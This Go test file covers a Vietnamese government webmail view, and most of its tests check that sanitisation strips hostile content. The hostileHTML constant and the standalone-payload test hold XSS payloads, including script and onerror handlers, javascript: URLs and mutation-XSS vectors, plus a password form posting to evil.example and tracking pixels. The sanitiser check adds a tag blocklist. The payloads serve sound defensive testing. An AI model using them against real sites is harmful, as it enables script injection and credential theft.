package mail

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"mime"
	"mime/quotedprintable"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"congvu/storage"
	"congvu/web/core"
	"congvu/web/webtest"
)

// mailEnv is the web with a real mail store behind it.
type mailEnv struct {
	*webtest.Env
	store *storage.FileStore
}

const (
	secretPW = webtest.SecretPW
	anAddr   = webtest.AnAddr
	ducAddr  = webtest.DucAddr
)

var expect = webtest.Expect

func newMailEnv(t *testing.T) *mailEnv {
	t.Helper()
	st, err := storage.Open(t.TempDir(), storage.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	e := webtest.New(t, nil, func(s *core.Site) { Register(s, Options{Mail: st}) })
	return &mailEnv{Env: e, store: st}
}

func (e *mailEnv) mailbox(user string) storage.Mailbox {
	e.T.Helper()
	mb, err := e.store.Mailbox(e.T.Context(), user, 0)
	if err != nil {
		e.T.Fatal(err)
	}
	return mb
}

// crlf turns a readable test message into wire form.
func crlf(s string) string { return strings.ReplaceAll(strings.TrimPrefix(s, "\n"), "\n", "\r\n") }

func (e *mailEnv) appendMsg(user, folder, raw string, flags ...string) uint32 {
	e.T.Helper()
	res, err := e.mailbox(user).Append(e.T.Context(), folder, strings.NewReader(crlf(raw)), flags, time.Now())
	if err != nil {
		e.T.Fatal(err)
	}
	return res.UID
}

// flagsOf returns the flags of a message, nil when it is not there.
func (e *mailEnv) flagsOf(user, folder string, uid uint32) []string {
	e.T.Helper()
	msgs, err := e.mailbox(user).Messages(e.T.Context(), folder)
	if err != nil {
		e.T.Fatal(err)
	}
	for _, m := range msgs {
		if m.UID == uid {
			return append([]string{"present"}, m.Flags...)
		}
	}
	return nil
}

var rowUID = regexp.MustCompile(`data-uid="(\d+)"`)

func rowUIDs(body string) []string {
	var out []string
	for _, m := range rowUID.FindAllStringSubmatch(body, -1) {
		out = append(out, m[1])
	}
	return out
}

func TestMailListPagesNewestFirst(t *testing.T) {
	e := newMailEnv(t)
	var msgs []storage.NewMessage
	base := time.Date(2026, 3, 1, 1, 0, 0, 0, time.UTC)
	for i := 1; i <= 120; i++ {
		raw := crlf(fmt.Sprintf(`
From: Phòng %d <p%d@khanhhoa.gov.vn>
To: %s
Subject: Công văn số %d
Date: Sun, 1 Mar 2026 08:00:00 +0700
Message-ID: <%d@test>

Nội dung %d.
`, i, i, anAddr, i, i, i))
		msgs = append(msgs, storage.NewMessage{Open: func() (io.ReadCloser, error) { return io.NopCloser(strings.NewReader(raw)), nil },
			Date: base.Add(time.Duration(i) * time.Minute)})
	}
	if _, err := e.mailbox(anAddr).(storage.BulkAppender).AppendMany(t.Context(), "INBOX", msgs, 2); err != nil {
		t.Fatal(err)
	}
	b := e.Browser()
	expect(t, b.Login(anAddr, secretPW), 200)
	r := b.Get("/mail")
	expect(t, r, 200, "Hộp thư đến", "Đã gửi", "Thư nháp", "Thùng rác", "Thư rác", "Lưu trữ",
		`<span class="count" title="Chưa đọc / Unread">120</span>`, "Thư 1–50 trong 120", "Trang 1 / 3")
	uids := rowUIDs(r.Body)
	if len(uids) != 50 || uids[0] != "120" || uids[49] != "71" {
		t.Fatalf("page 1 rows %v, want UIDs 120…71", uids)
	}
	// Subject, name, time of arrival in Viet Nam (01:01 UTC + 120 min = 10:00 ICT… on 1 March).
	for _, want := range []string{"Công văn số 120", "Phòng 120", "01/03/2026", `title="01/03/2026 10:00"`, "unread"} {
		if !strings.Contains(r.Body, want) {
			t.Errorf("page 1 lacks %q", want)
		}
	}
	if inlineScript(r.Body) || strings.Contains(r.Body, "style=") {
		t.Error("the list page has inline script or style")
	}
	r = b.Get("/mail?folder=INBOX&page=2")
	if uids := rowUIDs(r.Body); len(uids) != 50 || uids[0] != "70" || uids[49] != "21" {
		t.Errorf("page 2 rows %v, want 70…21", uids)
	}
	r = b.Get("/mail?folder=INBOX&page=3")
	expect(t, r, 200, "Thư 101–120 trong 120", "Trang 3 / 3")
	if uids := rowUIDs(r.Body); len(uids) != 20 || uids[0] != "20" || uids[19] != "1" {
		t.Errorf("page 3 rows %v, want 20…1", uids)
	}
	if strings.Contains(r.Body, `rel="next"`) || !strings.Contains(r.Body, `rel="prev"`) {
		t.Error("last page: wrong pager links")
	}
	// Past the end: the last page (after a delete a bookmark still works).
	r = b.Get("/mail?folder=INBOX&page=99")
	expect(t, r, 200, "Trang 3 / 3")
	expect(t, b.Get("/mail?folder=INBOX&page=0"), http.StatusBadRequest, "Số trang không hợp lệ")
	expect(t, b.Get("/mail?folder=INBOX&page=abc"), http.StatusBadRequest, "Số trang không hợp lệ")
	expect(t, b.Get("/mail?folder=Kh%C3%B4ng-c%C3%B3"), http.StatusNotFound, "Thư mục không tồn tại.", "No such folder.")
	expect(t, b.Get("/mail?folder=Trash"), 200, "Thùng rác", "Thư mục này chưa có thư nào.")
}

// wordQ is an RFC 2047 Q-encoded word of raw bytes in charset.
func wordQ(charset string, raw []byte) string {
	var b strings.Builder
	for _, c := range raw {
		if c > ' ' && c < 0x7f && c != '=' && c != '?' && c != '_' {
			b.WriteByte(c)
		} else if c == ' ' {
			b.WriteByte('_')
		} else {
			fmt.Fprintf(&b, "=%02X", c)
		}
	}
	return "=?" + charset + "?Q?" + b.String() + "?="
}

func TestMailVietnameseHeadersAndCharsets(t *testing.T) {
	e := newMailEnv(t)
	// windows-1258 writes "Đức" as Đ ư + combining acute, "gửi" with a
	// combining hook above.
	name1258 := []byte("L\xEA V\xE3n \xD0\xFD\xECc")
	uid := e.appendMsg(anAddr, "INBOX", `
From: `+wordQ("windows-1258", name1258)+` <duclv@khanhhoa.gov.vn>
To: =?UTF-8?B?`+"Tmd1eeG7hW4gVsSDbiBBbg=="+`?= <`+anAddr+`>
Subject: =?UTF-8?B?VuG7gSB2aeG7h2MgdHJp4buDbiBraGFpIGNo4buvIGvDvSBz4buR?=
Date: Mon, 2 Mar 2026 09:30:00 +0700
MIME-Version: 1.0
Content-Type: text/plain; charset=windows-1258
Content-Transfer-Encoding: quoted-printable

K=EDnh g=FD=D2i anh <An> & c=E1c =F0=F4=CCng ch=ED.
`)
	b := e.Browser()
	expect(t, b.Login(anAddr, secretPW), 200)
	r := b.Get("/mail")
	expect(t, r, 200, "Lê Văn Đức", "Về việc triển khai chữ ký số")
	r = b.Get(fmt.Sprintf("/mail/msg?folder=INBOX&uid=%d", uid))
	expect(t, r, 200, "Về việc triển khai chữ ký số", "Lê Văn Đức &lt;duclv@khanhhoa.gov.vn&gt;",
		"Nguyễn Văn An &lt;"+anAddr+"&gt;", "02/03/2026 09:30",
		// The body, converted from windows-1258, composed to NFC, escaped.
		"Kính gửi anh &lt;An&gt; &amp; các đồng chí.")
	if strings.Contains(r.Body, "<iframe") {
		t.Error("a plain text message is shown in a frame")
	}
}

// hostileHTML is a message body with the usual ways in.
const hostileHTML = `<html><head><style>body{background:url(http://evil.example/css)}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<script>document.title='pwned'</script></head><body onload="document.title='pwned'">
<p>Kính gửi các đồng chí,</p>
<img src=x onerror="document.title='pwned'">
<a href="javascript:document.title='pwned'">bấm vào đây</a>
<a href="  JaVaScRiPt:alert(1)">hai</a>
<img src="http://tracker.example/pixel.gif?u=an" alt="tracker">
<img src="//tracker.example/p2.gif">
<div style="width: expression(alert(3)); color: red">đỏ</div>
<div style="background-image:url(http://evil.example/bg)">nền</div>
<svg onload="document.title='pwned'"><script>document.title='pwned'</script><image href="http://evil.example/s.png"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password" type="password"><button>Đăng nhập</button></form>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<noscript><p title="</noscript><img src=x onerror=document.title='pwned'>"></noscript>
<a href="https://congbao.khanhhoa.gov.vn/van-ban" target="_top">Công báo</a>
<a href="/logout">đăng xuất</a>
<img src="cid:logo@congvu" alt="logo">
<table bgcolor="#ffeecc"><tr><td style="padding: 4px; font-weight: bold">ô</td></tr></table>
</body></html>`

// tinyPNG is a 1×1 PNG.
var tinyPNG = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")

// pdfBytes stands for an attachment whose bytes must come back unchanged.
var pdfBytes = append([]byte("%PDF-1.4\n\x00\x01\x02\xff\xfe binary "), bytes.Repeat([]byte{0, 0xff, '\r', '\n'}, 300)...)

func htmlMessage(to string) string {
	b64 := mimeBase64
	return `
From: =?UTF-8?Q?V=C4=83n_ph=C3=B2ng?= <vanphong@khanhhoa.gov.vn>
To: ` + to + `
Subject: =?UTF-8?Q?Th=C6=B0_m=E1=BB=9Di_h=E1=BB=8Dp?=
Date: Tue, 3 Mar 2026 14:00:00 +0700
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mixed"

--mixed
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

Kính gửi các đồng chí (bản văn bản).
--alt
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

` + qp(hostileHTML) + `
--rel
Content-Type: image/png
Content-ID: <logo@congvu>
Content-Disposition: inline
Content-Transfer-Encoding: base64

` + b64(tinyPNG) + `
--rel--
--alt--
--mixed
Content-Type: application/pdf; name="=?UTF-8?B?R2nhuqV5IG3hu51pLnBkZg==?="
Content-Disposition: attachment; filename*=UTF-8''Gi%E1%BA%A5y%20m%E1%BB%9Di%20h%E1%BB%8Dp.pdf
Content-Transfer-Encoding: base64

` + b64(pdfBytes) + `
--mixed
Content-Type: text/plain; charset=windows-1258; name="ghi-chu.txt"
Content-Disposition: attachment; filename="ghi-chu.txt"
Content-Transfer-Encoding: quoted-printable

K=EDnh g=FD=D2i
--mixed--
`
}

func mimeBase64(data []byte) string {
	var b strings.Builder
	enc := base64.StdEncoding.EncodeToString(data)
	for i := 0; i < len(enc); i += 76 {
		b.WriteString(enc[i:min(i+76, len(enc))])
		b.WriteString("\n")
	}
	return strings.TrimSuffix(b.String(), "\n")
}

func qp(s string) string {
	var b bytes.Buffer
	w := quotedprintable.NewWriter(&b)
	w.Write([]byte(strings.ReplaceAll(s, "\n", "\r\n")))
	w.Close()
	return strings.ReplaceAll(b.String(), "\r\n", "\n")
}

// checkSanitised fails on anything in body that could run script, load
// from the network, submit a form or navigate this site.
func checkSanitised(t *testing.T, body string) {
	t.Helper()
	for _, bad := range []string{"<script", "onerror", "onload", "javascript:", "expression(", "tracker.example",
		"evil.example", "<svg", "<iframe", "<form", "<input", "<object", "<embed", "<style", "<meta", "<base", "<math",
		"pwned", `href="/logout"`, "url("} {
		if strings.Contains(strings.ToLower(body), strings.ToLower(bad)) {
			t.Errorf("sanitised HTML contains %q:\n%s", bad, body)
		}
	}
	doc, err := html.Parse(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") {
				t.Errorf("<%s> keeps handler %s", n.Data, a.Key)
			}
			if n.Data == "img" && a.Key == "src" && !strings.HasPrefix(a.Val, "data:image/png;base64,") {
				t.Errorf("img src %q is not inline", a.Val)
			}
		}
	}
}

func TestMailHTMLIsSanitisedAndFramed(t *testing.T) {
	e := newMailEnv(t)
	uid := e.appendMsg(anAddr, "INBOX", htmlMessage(anAddr))
	b := e.Browser()
	expect(t, b.Login(anAddr, secretPW), 200)
	r := b.Get("/mail")
	expect(t, r, 200, "Thư mời họp", "Văn phòng", `class="mark att"`)

	view := b.Get(fmt.Sprintf("/mail/msg?folder=INBOX&uid=%d", uid))
	expect(t, view, 200, "Thư mời họp", `<iframe class="mailhtml" src="/mail/frame?folder=INBOX&amp;uid=1"`,
		`sandbox="allow-popups allow-popups-to-escape-sandbox"`, "Đã chặn 2 ảnh tải từ Internet",
		"Giấy mời họp.pdf", "ghi-chu.txt")
	if csp := view.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "frame-src 'self'") || !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
		t.Errorf("view CSP %q", csp)
	}
	if strings.Contains(view.Body, "<script") || strings.Contains(view.Body, "style=") || strings.Contains(view.Body, "Kính gửi các đồng chí,") {
		t.Error("the view page has inline script or style, or the mail's HTML itself")
	}
	if strings.Contains(view.Body, "tep-dinh-kem-1-2-2") || strings.Count(view.Body, `href="/mail/part?`) != 2 {
		t.Errorf("attachments: want the PDF and the note, not the inline logo:\n%s", view.Body)
	}

	fr := b.Get(fmt.Sprintf("/mail/frame?folder=INBOX&uid=%d", uid))
	expect(t, fr, 200, "Kính gửi các đồng chí,", "bấm vào đây", "Công báo", `src="data:image/png;base64,`, "đỏ")
	if got := fr.Header.Get("Content-Security-Policy"); got != frameCSP {
		t.Errorf("frame CSP %q, want %q", got, frameCSP)
	}
	csp := fr.Header.Get("Content-Security-Policy")
	if !strings.HasPrefix(csp, "sandbox ") || strings.Contains(csp, "allow-scripts") || strings.Contains(csp, "allow-same-origin") ||
		!strings.Contains(csp, "default-src 'none'") {
		t.Errorf("the frame's sandbox is not strict: %q", csp)
	}
	if xfo := fr.Header.Get("X-Frame-Options"); xfo != "SAMEORIGIN" {
		t.Errorf("frame X-Frame-Options %q", xfo)
	}
	body := fr.Body[strings.Index(fr.Body, "<body>"):]
	checkSanitised(t, body)
	if !regexp.MustCompile(`<a href="https://congbao.khanhhoa.gov.vn/van-ban" rel="[^"]*noreferrer[^"]*" target="_blank"|<a href="https://congbao.khanhhoa.gov.vn/van-ban"[^>]*target="_blank"`).MatchString(body) ||
		!strings.Contains(body, "noopener") || !strings.Contains(body, "noreferrer") {
		t.Errorf("external link lacks target=_blank rel=noopener noreferrer:\n%s", body)
	}
	if !strings.Contains(body, "color: red") || !strings.Contains(body, `bgcolor="#ffeecc"`) || !strings.Contains(body, "font-weight: bold") {
		t.Errorf("harmless formatting was lost:\n%s", body)
	}

	// A text-only message has no frame.
	plain := e.appendMsg(anAddr, "INBOX", "\nFrom: a@khanhhoa.gov.vn\nSubject: x\n\nvăn bản\n")
	expect(t, b.Get(fmt.Sprintf("/mail/frame?folder=INBOX&uid=%d", plain)), http.StatusNotFound, "Thư không có phần HTML")
}

func TestSanitiseStandalonePayloads(t *testing.T) {
	for _, src := range []string{
		`<scr<script>ipt>document.title='pwned'</script>`,
		`<IMG SRC="jav&#x09;ascript:alert('pwned');">`,
		`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
		`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
		`<div style="behavior: url(x.htc); -moz-binding: url(http://evil.example/x)">x</div>`,
		`<p style="color: red; background: url(javascript:alert(1))">x</p>`,
		`<a href="vbscript:msgbox(1)">x</a>`,
		`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<details open ontoggle="alert(1)">x</details>`,
		`<isindex action="javascript:alert(1)" type=image>`,
		`<textarea><script>alert(1)</script></textarea>`,
		`<template><img src=x onerror=alert(1)></template>`,
		`<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
		`<a href="https://x.example/" onclick="alert(1)" target="_top" rel="opener">x</a>`,
	} {
		out, _ := sanitizeHTML(src, nil)
		for _, bad := range []string{"<script", "javascript", "vbscript", "onerror", "ontoggle", "data:text", "svg", "url(", "binding", "behavior", "<textarea", "<template", "<isindex"} {
			if strings.Contains(strings.ToLower(out), bad) {
				t.Errorf("%s\n→ %s: contains %q", src, out, bad)
			}
		}
	}
}

func TestMailAttachmentDownloads(t *testing.T) {
	e := newMailEnv(t)
	uid := e.appendMsg(anAddr, "INBOX", htmlMessage(anAddr))
	b := e.Browser()
	expect(t, b.Login(anAddr, secretPW), 200)
	r := b.Get(fmt.Sprintf("/mail/part?folder=INBOX&uid=%d&part=2", uid))
	if r.StatusCode != 200 || r.Body != string(pdfBytes) {
		t.Fatalf("PDF: %d, %d bytes (want %d)", r.StatusCode, len(r.Body), len(pdfBytes))
	}
	h := r.Header
	if cd := h.Get("Content-Disposition"); cd != `attachment; filename="Giay moi hop.pdf"; filename*=UTF-8''Gi%E1%BA%A5y%20m%E1%BB%9Di%20h%E1%BB%8Dp.pdf` {
		t.Errorf("Content-Disposition %q", cd)
	}
	if _, params, err := mime.ParseMediaType(h.Get("Content-Disposition")); err != nil || params["filename"] != "Giấy mời họp.pdf" {
		t.Errorf("Content-Disposition parses to %q, %v", params, err)
	}
	if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Content-Type") != "application/octet-stream" {
		t.Errorf("download headers %v", h)
	}
	// A text attachment downloads as it was written, windows-1258 bytes.
	r = b.Get(fmt.Sprintf("/mail/part?folder=INBOX&uid=%d&part=3", uid))
	if r.StatusCode != 200 || r.Body != "K\xEDnh g\xFD\xD2i" {
		t.Errorf("text attachment: %d %q", r.StatusCode, r.Body)
	}
	expect(t, b.Get(fmt.Sprintf("/mail/part?folder=INBOX&uid=%d&part=9", uid)), http.StatusNotFound, "Thư không có phần đính kèm này")
}

func TestMailSeenFlagsAndMoves(t *testing.T) {
	e := newMailEnv(t)
	uid := e.appendMsg(anAddr, "INBOX", "\nFrom: a@khanhhoa.gov.vn\nSubject: =?UTF-8?Q?B=C3=A1o_c=C3=A1o?=\n\nx\n")
	other := e.appendMsg(anAddr, "INBOX", "\nFrom: b@khanhhoa.gov.vn\nSubject: other\n\ny\n")
	b := e.Browser()
	expect(t, b.Login(anAddr, secretPW), 200)
	path := fmt.Sprintf("/mail/msg?folder=INBOX&uid=%d", uid)
	expect(t, b.Get(path), 200, "Báo cáo")
	if f := e.flagsOf(anAddr, "INBOX", uid); !slices.Contains(f, `\Seen`) {
		t.Fatalf("opening did not set \\Seen: %v", f)
	}
	if f := e.flagsOf(anAddr, "INBOX", other); slices.Contains(f, `\Seen`) {
		t.Fatal("another message became \\Seen")
	}
	act := func(action string, uids ...uint32) webtest.Response {
		form := url.Values{"folder": {"INBOX"}, "action": {action}, "from": {"list"}}
		for _, u := range uids {
			form.Add("uid", fmt.Sprint(u))
		}
		return b.Post("/mail", "/mail/action", form)
	}
	// Without the CSRF token nothing changes.
	r := b.Do("POST", "/mail/action", url.Values{"folder": {"INBOX"}, "uid": {fmt.Sprint(uid)}, "action": {"unread"}})
	expect(t, r, http.StatusForbidden, "mã chống giả mạo (CSRF)")
	r = b.Do("POST", "/mail/action", url.Values{"folder": {"INBOX"}, "uid": {fmt.Sprint(uid)}, "action": {"delete"}, "csrf": {"sai"}})
	expect(t, r, http.StatusForbidden, "mã chống giả mạo (CSRF)")
	if f := e.flagsOf(anAddr, "INBOX", uid); !slices.Contains(f, `\Seen`) {
		t.Fatal("a POST without the token changed flags")
	}

	expect(t, act("unread", uid), 200, "Đã đánh dấu 1 thư là chưa đọc.")
	if f := e.flagsOf(anAddr, "INBOX", uid); slices.Contains(f, `\Seen`) {
		t.Error("unread did not clear \\Seen")
	}
	expect(t, act("flag", uid, other), 200, "Đã gắn cờ 2 thư.", `title="Đã gắn cờ / Flagged">★`)
	// From the view, a flag change returns to the message.
	r = b.Post(path, "/mail/action", url.Values{"folder": {"INBOX"}, "uid": {fmt.Sprint(uid)}, "action": {"unflag"}, "from": {"view"}})
	expect(t, r, 200, "Đã bỏ cờ 1 thư.", `value="flag"`)
	if r.Request.URL.Path != "/mail/msg" {
		t.Errorf("unflag from the view went to %s", r.Request.URL)
	}
	expect(t, act("read"), 200, "Chưa chọn thư nào.")
	expect(t, act("explode", uid), http.StatusBadRequest, "Thao tác không hợp lệ")

	expect(t, act("delete", uid), 200, "Đã chuyển 1 thư vào Thùng rác.")
	if e.flagsOf(anAddr, "INBOX", uid) != nil {
		t.Error("deleted message still in INBOX")
	}
	trash, err := e.mailbox(anAddr).Messages(t.Context(), "Trash")
	if err != nil || len(trash) != 1 {
		t.Fatalf("Trash: %v %v", trash, err)
	}
	expect(t, b.Get("/mail?folder=Trash"), 200, "Báo cáo", "Xoá vĩnh viễn")
	form := url.Values{"folder": {"Trash"}, "action": {"delete"}, "uid": {fmt.Sprint(trash[0].UID)}}
	expect(t, b.Post("/mail?folder=Trash", "/mail/action", form), 200, "Đã xoá vĩnh viễn 1 thư.", "Thư mục này chưa có thư nào.")

	expect(t, act("archive", other), 200, "Đã chuyển 1 thư vào Lưu trữ.")
	arch, _ := e.mailbox(anAddr).Messages(t.Context(), "Archive")
	if len(arch) != 1 || !slices.Contains(arch[0].Flags, `\Flagged`) {
		t.Errorf("Archive after the move: %v", arch)
	}
	form = url.Values{"folder": {"Archive"}, "action": {"junk"}, "uid": {fmt.Sprint(arch[0].UID)}}
	expect(t, b.Post("/mail?folder=Archive", "/mail/action", form), 200, "Đã chuyển 1 thư vào Thư rác.")
	junk, _ := e.mailbox(anAddr).Messages(t.Context(), "Junk")
	form = url.Values{"folder": {"Junk"}, "action": {"notjunk"}, "uid": {fmt.Sprint(junk[0].UID)}}
	expect(t, b.Post("/mail?folder=Junk", "/mail/action", form), 200, "Đã chuyển 1 thư về Hộp thư đến.")
	// Gone meanwhile: a readable 404.
	expect(t, act("flag", uid), http.StatusNotFound, "Thư không tồn tại")
}

func TestMailOnlyOwnMailbox(t *testing.T) {
	e := newMailEnv(t)
	uid := e.appendMsg(anAddr, "INBOX", htmlMessage(anAddr))
	duc := e.Browser()
	expect(t, duc.Login(ducAddr, secretPW), 200)
	expect(t, duc.Get("/mail"), 200, "Thư mục này chưa có thư nào.")
	for _, p := range []string{"/mail/msg", "/mail/frame", "/mail/part"} {
		r := duc.Get(fmt.Sprintf("%s?folder=INBOX&uid=%d&part=2", p, uid))
		expect(t, r, http.StatusNotFound, "Thư không tồn tại")
		if strings.Contains(r.Body, "Thư mời họp") || strings.Contains(r.Body, "PDF") {
			t.Errorf("%s shows another official's message", p)
		}
	}
	expect(t, duc.Post("/mail", "/mail/action", url.Values{"folder": {"INBOX"}, "uid": {fmt.Sprint(uid)}, "action": {"delete"}}),
		http.StatusNotFound, "Thư không tồn tại")
	if e.flagsOf(anAddr, "INBOX", uid) == nil {
		t.Error("another official's action removed the message")
	}
	for _, f := range []string{"../" + anAddr + "/INBOX", "%2e%2e", "*"} {
		if r := duc.Get("/mail?folder=" + url.QueryEscape(f)); r.StatusCode < 400 || r.StatusCode >= 500 {
			t.Errorf("folder %q: %d", f, r.StatusCode)
		}
	}
	// Without a session: the sign-in page, nothing of the mail.
	anon := e.Browser()
	r := anon.Get(fmt.Sprintf("/mail/part?folder=INBOX&uid=%d&part=2", uid))
	if r.Request.URL.Path != "/login" || strings.Contains(r.Body, "PDF") {
		t.Errorf("anonymous download: %s %d", r.Request.URL.Path, r.StatusCode)
	}
}

func TestMailErrors(t *testing.T) {
	e := newMailEnv(t)
	b := e.Browser()
	expect(t, b.Login(anAddr, secretPW), 200)
	expect(t, b.Get("/mail/msg?folder=INBOX&uid=abc"), http.StatusBadRequest, "Số hiệu thư không hợp lệ", "Về hộp thư")
	expect(t, b.Get("/mail/msg?folder=INBOX&uid=42"), http.StatusNotFound, "Thư không tồn tại, có thể đã bị xoá.", "No such message")
	expect(t, b.Get("/mail/msg?folder=Nope&uid=1"), http.StatusNotFound, "Thư mục không tồn tại.")

	noStore := webtest.New(t, nil, func(s *core.Site) { Register(s, Options{}) }).Browser()
	expect(t, noStore.Login(anAddr, secretPW), 200)
	r := noStore.Get("/mail")
	expect(t, r, http.StatusServiceUnavailable, "Máy chủ này chưa bật hộp thư trên web.")
	if r.Header.Get("Retry-After") == "" {
		t.Error("503 without Retry-After")
	}
}

func TestContentDisposition(t *testing.T) {
	for name, want := range map[string]string{
		"report.pdf":            `attachment; filename="report.pdf"; filename*=UTF-8''report.pdf`,
		"Tờ trình số 5.docx":    `attachment; filename="To trinh so 5.docx"; filename*=UTF-8''T%E1%BB%9D%20tr%C3%ACnh%20s%E1%BB%91%205.docx`,
		"Đề án \"mới\"; x%.txt": `attachment; filename="De an _moi__ x_.txt"; filename*=UTF-8''%C4%90%E1%BB%81%20%C3%A1n%20%22m%E1%BB%9Bi%22%3B%20x%25.txt`,
	} {
		got := contentDisposition(name)
		if got != want {
			t.Errorf("%q: %s\nwant %s", name, got, want)
		}
		if _, p, err := mime.ParseMediaType(got); err != nil || p["filename"] != name {
			t.Errorf("%q: parses back as %q (%v)", name, p["filename"], err)
		}
	}
	if got := cleanFileName("..\\..\\evil\u202Egpj.exe"); got != "evilgpj.exe" {
		t.Errorf("cleanFileName: %q", got)
	}
}

func TestCleanTextAndSizes(t *testing.T) {
	if got := cleanText("  Thư\r\n\tkhẩn\u202E\x07 ", 100); got != "Thư khẩn" {
		t.Errorf("cleanText: %q", got)
	}
	if got := cleanText(strings.Repeat("ạ", 10), 3); got != "ạạạ…" {
		t.Errorf("cleanText max: %q", got)
	}
	for n, want := range map[int64]string{0: "0 B", 999: "999 B", 1000: "1 KB", 10 << 10: "10 KB", 3 << 20: "3 MB", 1536 << 10: "1,5 MB", 2 << 30: "2 GB", 2684354560: "2,5 GB"} {
		if got := formatSize(n); got != want {
			t.Errorf("formatSize(%d) = %q, want %q", n, got, want)
		}
	}
	for _, c := range []struct{ n, p, lo, hi, page, pages int }{
		{0, 1, 0, 0, 1, 1}, {50, 1, 0, 50, 1, 1}, {51, 1, 1, 51, 1, 2}, {51, 2, 0, 1, 2, 2}, {51, 7, 0, 1, 2, 2}, {100000, 2000, 0, 50, 2000, 2000},
	} {
		lo, hi, page, pages := pageBounds(c.n, c.p)
		if lo != c.lo || hi != c.hi || page != c.page || pages != c.pages {
			t.Errorf("pageBounds(%d, %d) = %d %d %d %d, want %d %d %d %d", c.n, c.p, lo, hi, page, pages, c.lo, c.hi, c.page, c.pages)
		}
	}
}

// TestBrokenMIMEOpens runs the broken-MIME corpus through the view: every
// message opens (never a 5xx, never a half page), shows its readable text,
// and its list page, HTML frame and attachments answer too.
func TestBrokenMIMEOpens(t *testing.T) {
	e := newMailEnv(t)
	b := e.Browser()
	expect(t, b.Login(anAddr, secretPW), 200)
	files, err := filepath.Glob("../../testdata/brokenmime/*.eml")
	if err != nil || len(files) < 10 {
		t.Fatalf("corpus: %d files, %v", len(files), err)
	}
	marker := regexp.MustCompile(`MARKER-[a-z0-9]+`)
	for _, f := range files {
		t.Run(filepath.Base(f), func(t *testing.T) { openBroken(t, e, b, f, marker) })
	}
	expect(t, b.Get("/mail"), 200, "bad base64")
}

func openBroken(t *testing.T, e *mailEnv, b *webtest.Browser, f string, marker *regexp.Regexp) {
	raw, err := os.ReadFile(f)
	if err != nil {
		t.Fatal(err)
	}
	{
		// Delivered as the store takes mail that arrived before today's
		// limits or through an import: APPEND now refuses the deepest
		// nesting (storage.ErrMIMEStructure), but such mail must still open.
		results, err := e.store.Deliver(t.Context(), bytes.NewReader(raw), []storage.Recipient{{User: anAddr}})
		if err == nil {
			err = results[0].Err
		}
		if err != nil {
			t.Fatalf("deliver: %v", err)
		}
		res := results[0]
		r := b.Get(fmt.Sprintf("/mail/msg?folder=INBOX&uid=%d", res.UID))
		want := marker.FindString(string(raw))
		shown := r.Body
		if strings.Contains(r.Body, `class="mailhtml"`) {
			shown = b.Get(fmt.Sprintf("/mail/frame?folder=INBOX&uid=%d", res.UID)).Body
		}
		expect(t, r, 200, "Người gửi")
		if strings.HasPrefix(filepath.Base(f), "unterminated-") && !strings.Contains(r.Body, `id="damaged"`) {
			t.Error("no notice that the message is damaged")
		}
		if !strings.Contains(shown, want) {
			t.Errorf("%q not shown:\n%.3000s", want, shown)
		}
		if !strings.Contains(r.Body, "</html>") {
			t.Errorf("%s: half a page", filepath.Base(f))
		}
		if strings.Contains(string(raw), "text/html") {
			fr := b.Get(fmt.Sprintf("/mail/frame?folder=INBOX&uid=%d", res.UID))
			if fr.StatusCode != 200 && fr.StatusCode != 404 {
				t.Errorf("%s: frame %d", filepath.Base(f), fr.StatusCode)
			}
		}
		for _, href := range regexp.MustCompile(`href="(/mail/part\?[^"]+)"`).FindAllStringSubmatch(r.Body, -1) {
			if p := b.Get(htmlUnescape(href[1])); p.StatusCode != 200 {
				t.Errorf("%s: attachment %s: %d", filepath.Base(f), href[1], p.StatusCode)
			}
		}
	}
}

func htmlUnescape(s string) string { return html.UnescapeString(s) }

// inlineScript tells whether a page has script other than a file of its
// own origin (<script src="/static/…" defer></script>).
func inlineScript(body string) bool {
	return strings.Count(body, "<script") != strings.Count(body, `<script src="/static/`) ||
		strings.Contains(body, "javascript:") || regexp.MustCompile(`\son[a-z]+=`).MatchString(body)
}
